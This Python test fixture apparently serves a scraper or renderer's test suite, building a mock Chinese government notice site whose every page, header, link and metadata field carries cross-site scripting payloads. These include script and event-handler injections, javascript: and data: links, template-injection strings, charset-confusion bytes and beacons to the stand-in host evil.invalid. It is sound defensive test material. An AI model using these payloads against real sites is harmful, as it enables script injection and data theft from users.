"""A site that attacks whoever shows what it says: the payloads, and the pages that carry them."""

from __future__ import annotations

from html import escape
from urllib.parse import quote

from tests.outside import Answer, Outside

# What a payload does when it runs: it can be seen from inside, from a dialog, and from the network.
FIRE = "window.__fired=1;console.log('fired');alert('fired');new Image().src='http://evil.invalid/__fired'"
BEACON = "<img src='http://evil.invalid/__fired'>"

PAYLOADS = (
    f"<script>{FIRE}</script>",
    f"</title></textarea></style></script><script>{FIRE}</script>",
    f'<img src=x onerror="{FIRE}">',
    f'"><svg/onload="{FIRE}">',
    f"' autofocus onfocus=\"{FIRE}\" x='",
    f'" autofocus onfocus={quote(FIRE)} tabindex=1 x="',
    f"` onmouseover={quote(FIRE)} `",
    f'<iframe srcdoc="&lt;script&gt;{escape(FIRE)}&lt;/script&gt;"></iframe>',
    f'<math><mtext></table></math><img src onerror="{FIRE}">',
    f'<details open ontoggle="{FIRE}">',
    f"<style>@import 'http://evil.invalid/__fired';</style><link rel=stylesheet href=//evil.invalid/__fired>{BEACON}",
    "<meta http-equiv=refresh content='0;url=http://evil.invalid/__fired'><base href='http://evil.invalid/'>",
    "{{ 7*7 }}{% raw %}{{ config }}{{ ''.__class__ }}${7*7}#{7*7}<%= 7*7 %>",
    f"<!--><script>{FIRE}</script-->]]><![CDATA[><script>{FIRE}</script>]]>",
    f"&lt;script&gt;{FIRE}&lt;/script&gt;&#60;script&#62;{FIRE}&#60;/script&#62;",
    f'=HYPERLINK("http://evil.invalid/__fired")\t@SUM(1)\r\n-->\u2028{FIRE}\u2029',
    f"\u202e<script>\u200b{FIRE}</script>\x00\x0b\ufeff\ud7ff",
    f'</p></article></main></body><body onload="{FIRE}">',
)
LINKS = (
    f"javascript:{FIRE}",
    f"JaVaScRiPt&#58;{FIRE}",
    f"\x01javascript:{FIRE}",
    f"java\tscript:{FIRE}",
    f"data:text/html,<script>{FIRE}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19maXJlZD0xPC9zY3JpcHQ+",
    f"vbscript:{FIRE}",
    f'/xwfb/a.pdf?q="><script>{FIRE}</script>',
    f"/xwfb/a.pdf#' onclick='{FIRE}",
    f"blob:http://evil.invalid/{FIRE}",
    f"view-source:javascript:{FIRE}",
)
SENTENCE = "市人民政府今天召开新闻发布会，通报全市学校食堂食材采购管理工作的有关情况，请各单位认真遵照执行。"


def article(number: int, round_: int) -> bytes:
    """A notice that carries one payload in every place that text can be in, as text and as markup."""
    payload, link = PAYLOADS[number % len(PAYLOADS)], LINKS[number % len(LINKS)]
    shown, attribute = escape(payload), escape(link)
    said = "".join(
        f"<p>{SENTENCE}第{number}号，第{one}段，{'第二稿' if round_ else '初稿'}。{shown}</p>" for one in range(4)
    )
    files = "".join(
        f'<p><a href="{escape(one)}">{shown} 附件{place}.pdf</a></p>' for place, one in enumerate((link, LINKS[7]))
    )
    meta = f"<meta name='author' content=\"{shown}\"><meta name='ContentSource' content=\"{shown}\">"
    page = (
        f"<!DOCTYPE html><html><head><meta charset='utf-8'><title>{shown}通知</title>{meta}</head>"
        f'<body onload="{escape(FIRE)}"><h1>{shown}关于学校食堂的通知{round_}</h1>'
        f"<div class='source'>来源：{shown} 发布时间：2026-03-0{1 + round_} 08:00</div>"
        f"<div class='TRS_Editor'>{said}{files}{payload if round_ else ''}</div>"
        f"<a href=\"{attribute}\" style='display:none'>{shown} 博彩 娱乐城</a>{payload}</body></html>"
    )
    return page.encode("utf-8", "replace")


# Bytes that mean something else in another encoding than the one they are shown in.
ENCODED: dict[str, tuple[str, bytes]] = {
    "utf7": ("text/html; charset=utf-7", b"<meta charset=utf-7>+ADw-script+AD4-window.__fired=1+ADw-/script+AD4-"),
    "utf7-unnamed": ("text/html", b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
    "jp": (
        "text/html; charset=iso-2022-jp",
        b'<meta charset=iso-2022-jp><p title="\x1b$B">x\x1b(B'
        b"<a title='\"onmouseover=alert(1) <img src=x onerror=alert(1)>'>",
    ),
    "overlong": ("text/html; charset=utf-8", b"\xc0\xbcscript\xc0\xbewindow.__fired=1\xc0\xbc/script\xc0\xbe"),
    "utf16": ("text/html", "\ufeff<script>window.__fired=1;alert(1)</script>".encode("utf-16-le")),
    "bom": ("text/html; charset=gbk", b"\xef\xbb\xbf<script>window.__fired=1;alert(1)</script>"),
    "svg": (
        "image/svg+xml",
        f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{FIRE}\"><script>{FIRE}</script></svg>".encode(),
    ),
    "xml": (
        "application/xhtml+xml",
        f"<html xmlns='http://www.w3.org/1999/xhtml'><script>{escape(FIRE)}</script><p>{SENTENCE}</p></html>".encode(),
    ),
    "xslt": (
        "text/xml",
        b"<?xml version='1.0'?><?xml-stylesheet type='text/xsl' href='data:text/xml,&lt;x/&gt;'?>"
        b"<a onload='alert(1)'/>",
    ),
    "plain": ("text/plain", f"<script>{FIRE}</script>{SENTENCE}".encode()),
    "nul": ("text/html; charset=utf-8", b"<scr\x00ipt>window.__fired=1</scr\x00ipt><img src=x onerror\x00=alert(1)>"),
    "gbk-eats": (
        "text/html; charset=gbk",
        b'<a title="\x81">x</a><a title=" onclick=alert(1) <script>alert(1)</script>">',
    ),
}


def build(site: Outside, round_: int) -> None:
    """The site as it is in a round: its listing names every page, with a payload for a name."""
    items = []
    for number, payload in enumerate(PAYLOADS):
        body = article(number, round_)
        site.answer(f"/xwfb/t{number}.html", lambda asked, body=body: html(body))
        items.append(f"<li><a href='/xwfb/t{number}.html'>{escape(payload)}通知公告</a><span>2026-03-01</span></li>")
    for name, (kind, body) in ENCODED.items():
        padded = body + (f"<p>{SENTENCE}{round_}</p>".encode() if kind.startswith("text/html; charset=utf-8") else b"")
        site.answer(f"/xwfb/e-{name}.html", lambda asked, body=padded, kind=kind: html(body, kind))
        items.append(f"<li><a href='/xwfb/e-{name}.html'>{name} 的通知公告和说明</a><span>2026-03-01</span></li>")
    hostile = quote(PAYLOADS[0], safe="")
    site.answer(f"/xwfb/q.html?q={hostile}", lambda asked: html(article(0, round_)))
    items.append(f"<li><a href='/xwfb/q.html?q={hostile}'>地址里的通知公告</a><span>2026-03-01</span></li>")
    listing = f"<!DOCTYPE html><meta charset='utf-8'><title>通知公告</title><ul class='list'>{''.join(items)}</ul>"
    site.answer("/xwfb/", lambda asked: html(listing.encode("utf-8", "replace")))


def html(body: bytes, kind: str = "text/html; charset=utf-8") -> Answer:
    return Answer(body, headers=(("Content-Type", kind), ("X-Hostile", "<script>alert(1)</script>")))
